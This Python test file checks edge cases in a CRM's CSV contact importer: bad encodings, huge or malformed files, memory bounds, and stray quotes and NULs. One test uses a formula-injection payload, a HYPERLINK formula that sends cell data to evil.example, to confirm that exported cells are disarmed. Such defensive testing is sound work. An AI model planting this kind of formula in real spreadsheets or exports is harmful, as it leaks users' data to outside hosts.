"""Files that nobody would want: a clear message each, nothing half-done, and neither time nor memory without end."""

import random
import time
import tracemalloc
from pathlib import Path

import pytest
from pytest_django import Settings

from conftest import Cast, Database
from consult.core import delimited, spreadsheet, tenancy
from consult.crm import queries, services
from consult.crm.services import import_runs
from consult.crm.tests import importing


@pytest.fixture(autouse=True)
def folder(settings: Settings, tmp_path: Path) -> Path:
    settings.CONSULT_FILES_URL = tmp_path.as_uri()
    return tmp_path


def faults(cast: Cast, of: queries.Import) -> dict[int, list[tuple[str, str]]]:
    with tenancy.agency(cast.a):
        rows = queries.import_rows(cast.a, of.id, "failed", limit=100_000)
    return {row.line: [(each["column"], each["code"]) for each in row.issues] for row in rows}


def names(cast: Cast) -> list[str]:
    with tenancy.agency(cast.a):
        return [each.name for each in queries.contacts_after(cast.a, None, 1000)]


def test_broken_characters_cost_their_row_alone(database: Database, cast: Cast) -> None:
    text = "Name,E-Mail\n" + "".join(f"Jürgen Größe {n},j{n}@x.example\n" for n in range(30))
    raw = text.encode() + b"Br\xfcning,b@x.example\n\xc3\x28,c@x.example\n" + "Müller,m@x.example\n".encode()
    of = importing.whole(database, cast, raw)
    assert of.encoding == "utf-8"
    assert of.counts == {"new": 31, "failed": 2}
    assert faults(cast, of) == {32: [("Name", "broken")], 33: [("Name", "broken")]}
    assert "Müller" in names(cast)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "windows-1252", "mac-roman"])
def test_encodings_that_programs_save_in(database: Database, cast: Cast, encoding: str) -> None:
    people = "".join(f"Jürgen Groß {n}\tj{n}@x.example\r\n" for n in range(20))
    import_id = importing.upload(cast, f"Name\tE-Mail\r\n{people}".encode(encoding))
    of = importing.look(cast, import_id)
    if encoding == "mac-roman":
        # What nobody can see from outside is chosen.
        form = delimited.Form("mac-roman", "\t", True)
        importing.act(cast, "reread_import", import_id, form=form)
    assert of.delimiter == "\t"
    importing.check(database, cast, import_id)
    assert importing.run(database, cast, import_id).counts == {"new": 20}
    assert names(cast)[0] == "Jürgen Groß 0"


def test_200_000_rows_of_nonsense(database: Database, cast: Cast) -> None:
    """In bounded time and memory, with the first thousand named and all counted."""
    dice = random.Random(5)  # noqa: S311 (nonsense)
    lines = [f"x{dice.random()};no mail {n};{dice.random()};;;" for n in range(1_000)]
    raw = ("Name;E-Mail;Telefon;Firma;Tags\n" + "\n".join(lines * 200)).encode()
    import_id = importing.upload(cast, raw)
    mapping = ["name", "emails", "phones", "company", "labels"]
    importing.act(cast, "check_import", import_id, mapping=mapping, on_known="skip")
    began = time.monotonic()
    services.check_rows(agency_id=cast.a, import_id=import_id)
    took = time.monotonic() - began
    of = importing.look(cast, import_id)
    assert (of.state, of.total, of.counts) == ("checked", 200_000, {"failed": 200_000})
    assert len(faults(cast, of)) == import_runs.MOST_ISSUES
    # About fifteen seconds on an idle machine; a walk that were quadratic would take hours.
    assert took < 240


def test_what_is_in_memory_does_not_grow_with_the_file(database: Database, cast: Cast) -> None:
    peaks = []
    for count in (2_000, 20_000):
        raw = ("Name;E-Mail\n" + "".join(f"N;no mail {n}\n" for n in range(count))).encode()
        import_id = importing.upload(cast, raw)
        importing.act(cast, "check_import", import_id, mapping=["name", "emails"], on_known="skip")
        del raw
        tracemalloc.start()
        services.check_rows(agency_id=cast.a, import_id=import_id)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.5 + 1_000_000, peaks


def test_more_rows_than_an_import_takes(database: Database, cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(import_runs, "MOST_ROWS", 100)
    import_id = importing.upload(cast, "Name\n" + "Ann\n" * 101)
    of = importing.check(database, cast, import_id)
    assert (of.state, of.error) == ("failed", "too_many_rows")
    assert names(cast) == []


def test_a_formula_stays_text_and_is_disarmed_on_its_way_out(database: Database, cast: Cast) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    quoted = formula.replace('"', '""')
    importing.whole(database, cast, f'Name,E-Mail,Phone\n"{quoted}",a@x.example,+44 20 7946 0000\n')
    assert names(cast) == [formula]
    written = "".join(spreadsheet.lines(["Name", "E-Mail", "Phone"], [[formula, "b@x.example", "+44 20 7946 0001"]]))
    assert "\"'=HYPERLINK" in written
    # What we have written ourselves is read as it was meant.
    importing.whole(database, cast, written)
    with tenancy.agency(cast.a):
        assert [(each.name, each.phone) for each in queries.contacts_after(cast.a, None, 9)] == [
            (formula, "+44 20 7946 0000"),
            (formula, "+44 20 7946 0001"),
        ]


def test_nuls(database: Database, cast: Cast) -> None:
    of = importing.whole(database, cast, b"Name,E-Mail\nA\0nn,a@x.example\nBen,b@x.example\n")
    assert (faults(cast, of), names(cast)) == ({2: [("Name", "nul")]}, ["Ben"])


def test_ragged_rows(database: Database, cast: Cast) -> None:
    of = importing.whole(database, cast, "Name,E-Mail,Phone\nAnn\n\nBen,b@x.example,,,,\nCleo,c@x.example,,more\n")
    # Rows are counted as a spreadsheet counts them, blank ones among them.
    assert faults(cast, of) == {5: [("", "extra_cells")]}
    assert names(cast) == ["Ann", "Ben"]


def test_a_header_twice(database: Database, cast: Cast) -> None:
    import_id = importing.upload(cast, "E-Mail,Name,E-Mail,Name,\na@x.example,Ann,b@x.example,Other,x\n")
    of = importing.look(cast, import_id)
    assert of.columns == ["E-Mail", "Name", "E-Mail (2)", "Name (2)", "Column 5"]
    assert of.mapping == ["emails", "name", "emails", "", ""]
    importing.check(database, cast, import_id)
    importing.run(database, cast, import_id)
    with tenancy.agency(cast.a):
        [ann] = queries.contacts_after(cast.a, None, 9)
    assert (ann.name, ann.emails) == ("Ann", ["a@x.example", "b@x.example"])


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf\r\n\r\n", "empty"),
        (b"PK\x03\x04\x14\0" + b"\0" * 500, "workbook"),
        (bytes(range(256)) * 100, "binary"),
        (b"%PDF-1.7\n1 0 obj\n", "binary"),
        (b"a," * 300 + b"\n", "columns"),
        (b"x" * 1_100_000, "line"),
        (b'"' + b"x\n" * 60_000, "cell"),
    ],
)
def test_what_is_no_csv_is_not_kept(database: Database, cast: Cast, folder: Path, content: bytes, kind: str) -> None:
    with pytest.raises(delimited.Unreadable) as fault:
        importing.upload(cast, content)
    assert fault.value.kind == kind
    assert [each for each in folder.rglob("*") if each.is_file()] == []
    assert database.ask("SELECT count(*) FROM crm_import") == [(0,)]


def test_a_header_and_nothing_else(database: Database, cast: Cast) -> None:
    of = importing.check(database, cast, importing.upload(cast, "Name,E-Mail\n"))
    assert (of.state, of.error) == ("failed", "empty")


def test_a_quote_that_nobody_closes(database: Database, cast: Cast) -> None:
    import_id = importing.upload(cast, "Name,E-Mail\nAnn,a@x.example\n" + 'Ben,"b\n' + "x,y\n" * 60_000)
    of = importing.check(database, cast, import_id)
    assert (of.state, of.error, of.error_row, names(cast)) == ("failed", "cell", 3, [])


def test_a_file_that_is_gone(database: Database, cast: Cast, folder: Path) -> None:
    import_id = importing.upload(cast, "Name\nAnn\n")
    for file in folder.rglob("*"):
        if file.is_file():
            file.unlink()
    assert importing.check(database, cast, import_id).error == "missing"
    page = cast.bob.client.get(f"/a/imports/{import_id}/")
    assert page.status_code == 200
    assert "not there any more" in page.content.decode()
